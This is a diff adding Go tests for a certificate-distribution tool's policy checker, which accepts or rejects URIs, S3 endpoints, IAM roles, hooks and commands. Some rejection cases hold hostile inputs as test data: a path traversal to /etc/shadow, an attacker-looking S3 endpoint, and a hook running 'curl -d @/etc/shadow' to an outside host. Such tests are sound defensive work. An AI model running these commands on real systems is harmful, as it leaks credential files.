@@ -0,0 +1,205 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"path"
+	"strings"
+	"testing"
+)
+
+func TestPolicyJSON_Check(t *testing.T) {
+	t.Parallel()
+
+	pJSON, err := loadPolicy("testdata/test_policy.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data := []struct {
+		testcase string
+		// input
+		catalogURI string
+		orderURI   string
+		fallback   string
+		// want
+		err error
+	}{
+		{"OK:allowed", "github:///repos/yuxki/cannect/contents/root-ca.crt", "s3://ca-prod/root-ca.crt", "", nil},
+		{"OK:allowed fallback", "file://testdata/root-ca.crt", "s3://ca-prod/root-ca.crt", "file://testdata/root-ca.out", nil},
+		{"NG:catalog repo", "github:///repos/other/cannect/contents/root-ca.crt", "s3://ca-prod/root-ca.crt", "", errURINotAllowed},
+		{"NG:order bucket", "file://testdata/root-ca.crt", "s3://other-ca/root-ca.crt", "", errURINotAllowed},
+		{"NG:order scheme", "file://testdata/root-ca.crt", "env://ROOT_CA", "", errURINotAllowed},
+		{"NG:fallback", "file://testdata/root-ca.crt", "s3://ca-prod/root-ca.crt", "file://etc/root-ca.crt", errURINotAllowed},
+		{"NG:catalog traversal", "file://testdata/../../etc/shadow", "s3://ca-prod/root-ca.crt", "", errURINotAllowed},
+		{"NG:catalog subdirectory", "file://testdata/secrets/key.pem", "s3://ca-prod/root-ca.crt", "", errURINotAllowed},
+		{"NG:order traversal", "file://testdata/root-ca.crt", "s3://ca-prod/../other/root-ca.crt", "", errURINotAllowed},
+		{"OK:cleaned", "file://testdata/./root-ca.crt", "s3://ca-prod/root-ca.crt", "", nil},
+		{"OK:workload", "workload://run/spire/agent.sock", "s3://ca-prod/root-ca.crt", "", nil},
+		{"NG:workload key", "workload://run/spire/agent.sock?asset=key", "s3://ca-prod/root-ca.crt", "", errURINotAllowed},
+		{"NG:workload socket", "workload://?asset=bundle", "s3://ca-prod/root-ca.crt", "", errURINotAllowed},
+	}
+
+	for _, d := range data {
+		d := d
+		t.Run(d.testcase, func(t *testing.T) {
+			t.Parallel()
+
+			cntJSON := CAnnectJSON{
+				Catalogs: []CatalogJSON{{Alias: "root-ca.crt", URI: d.catalogURI, Category: "certificate"}},
+				Orders:   []OrderJSON{{CatalogAliases: []string{"root-ca.crt"}, URI: d.orderURI}},
+			}
+			if d.fallback != "" {
+				cntJSON.Orders[0].Fallbacks = []string{d.fallback}
+			}
+
+			err := pJSON.check(cntJSON)
+			if !errors.Is(err, d.err) {
+				t.Fatalf("Expected %#v error but got: %#v", d.err, err)
+			}
+		})
+	}
+
+	err = PolicyJSON{}.check(CAnnectJSON{Catalogs: []CatalogJSON{{URI: "vault://secret/ca"}}})
+	if !errors.Is(err, errURINotAllowed) {
+		t.Errorf("Expected %#v error of the empty policy but got: %#v", errURINotAllowed, err)
+	}
+}
+
+func TestLoadPolicy(t *testing.T) {
+	t.Parallel()
+
+	dir := path.Join("testdata", t.Name())
+	err := os.MkdirAll(dir, 0o755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		os.RemoveAll(dir)
+	})
+
+	name := path.Join(dir, "policy.json")
+	err = os.WriteFile(name, []byte(`{"catalog": ["file://**"], "orders": ["file://**"]}`), 0o600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	_, err = loadPolicy(name)
+	if err == nil || !strings.Contains(err.Error(), "unknown field") {
+		t.Errorf("Expected the error of the unknown field but got: %v", err)
+	}
+}
+
+func TestPolicyJSON_Check_S3(t *testing.T) {
+	t.Parallel()
+
+	pJSON, err := loadPolicy("testdata/test_policy.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data := []struct {
+		testcase string
+		// input
+		catalogS3 *S3JSON
+		orderS3   *S3JSON
+		// want
+		err error
+	}{
+		{"OK:no s3", nil, nil, nil},
+		{"OK:region", &S3JSON{Region: "us-east-1"}, nil, nil},
+		{"OK:allowed", &S3JSON{RoleARN: "arn:aws:iam::123456789012:role/pki-reader"}, &S3JSON{Endpoint: "https://minio.internal:9000"}, nil},
+		{"NG:catalog endpoint", &S3JSON{Endpoint: "https://attacker.example.com"}, nil, errS3EndpointNotAllowed},
+		{"NG:order endpoint", nil, &S3JSON{Endpoint: "https://minio.internal:9000/../x"}, errS3EndpointNotAllowed},
+		{"NG:catalog role", &S3JSON{RoleARN: "arn:aws:iam::123456789012:role/admin"}, nil, errS3RoleNotAllowed},
+		{"NG:catalog role path", &S3JSON{RoleARN: "arn:aws:iam::123456789012:role/pki-reader/admin"}, nil, errS3RoleNotAllowed},
+	}
+
+	for _, d := range data {
+		d := d
+		t.Run(d.testcase, func(t *testing.T) {
+			t.Parallel()
+
+			cntJSON := CAnnectJSON{
+				Catalogs: []CatalogJSON{{Alias: "root-ca.crt", URI: "file://testdata/root-ca.crt", S3: d.catalogS3}},
+				Orders:   []OrderJSON{{CatalogAliases: []string{"root-ca.crt"}, URI: "s3://ca-prod/root-ca.crt", S3: d.orderS3}},
+			}
+
+			err := pJSON.check(cntJSON)
+			if !errors.Is(err, d.err) {
+				t.Fatalf("Expected %#v error but got: %#v", d.err, err)
+			}
+		})
+	}
+}
+
+func TestPolicyJSON_Check_Hooks(t *testing.T) {
+	t.Parallel()
+
+	pJSON := PolicyJSON{Orders: []string{"file://**"}, Hooks: []string{"systemctl reload *"}}
+
+	data := []struct {
+		testcase string
+		// input
+		hook       []string
+		globalHook []string
+		// want
+		err error
+	}{
+		{"OK:no hook", nil, nil, nil},
+		{"OK:allowed", []string{"systemctl", "reload", "nginx"}, nil, nil},
+		{"NG:order hook", []string{"sh", "-c", "systemctl reload nginx"}, nil, errHookNotAllowed},
+		{"NG:global hook", nil, []string{"curl", "-d", "@/etc/shadow", "example.com"}, errHookNotAllowed},
+	}
+
+	for _, d := range data {
+		d := d
+		t.Run(d.testcase, func(t *testing.T) {
+			t.Parallel()
+
+			cntJSON := CAnnectJSON{
+				Orders: []OrderJSON{{CatalogAliases: []string{"root-ca.crt"}, URI: "file://root-ca.crt", Hook: d.hook}},
+				Hook:   d.globalHook,
+			}
+
+			err := pJSON.check(cntJSON)
+			if !errors.Is(err, d.err) {
+				t.Fatalf("Expected %#v error but got: %#v", d.err, err)
+			}
+		})
+	}
+}
+
+func TestPolicyJSON_Check_Commands(t *testing.T) {
+	t.Parallel()
+
+	pJSON := PolicyJSON{Orders: []string{"cmd://**"}, Commands: []string{"vault kv put *"}}
+
+	data := []struct {
+		testcase string
+		// input
+		command *CommandJSON
+		// want
+		err error
+	}{
+		{"OK:no command", nil, nil},
+		{"OK:allowed", &CommandJSON{Args: []string{"vault", "kv", "put", "secret/ca", "value=-"}}, nil},
+		{"NG:not allowed", &CommandJSON{Args: []string{"sh", "-c", "vault kv put secret/ca value=-"}}, errCmdNotAllowed},
+	}
+
+	for _, d := range data {
+		d := d
+		t.Run(d.testcase, func(t *testing.T) {
+			t.Parallel()
+
+			cntJSON := CAnnectJSON{
+				Orders: []OrderJSON{{CatalogAliases: []string{"root-ca.crt"}, URI: "cmd://vault", Command: d.command}},
+			}
+
+			err := pJSON.check(cntJSON)
+			if !errors.Is(err, d.err) {
+				t.Fatalf("Expected %#v error but got: %#v", d.err, err)
+			}
+		})
+	}
+}